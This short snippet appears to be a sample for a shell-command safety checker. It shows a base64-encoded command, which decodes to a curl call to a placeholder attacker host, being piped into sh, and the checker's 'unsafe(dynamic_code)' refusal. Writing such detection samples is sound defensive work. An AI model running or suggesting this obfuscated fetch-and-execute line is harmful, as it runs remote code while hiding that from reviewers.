# Trick: code is hidden in base64 and piped into a shell.
# Refused: unsafe(dynamic_code)
echo Y3VybCBldmlsLmV4YW1wbGU= | base64 -d | sh
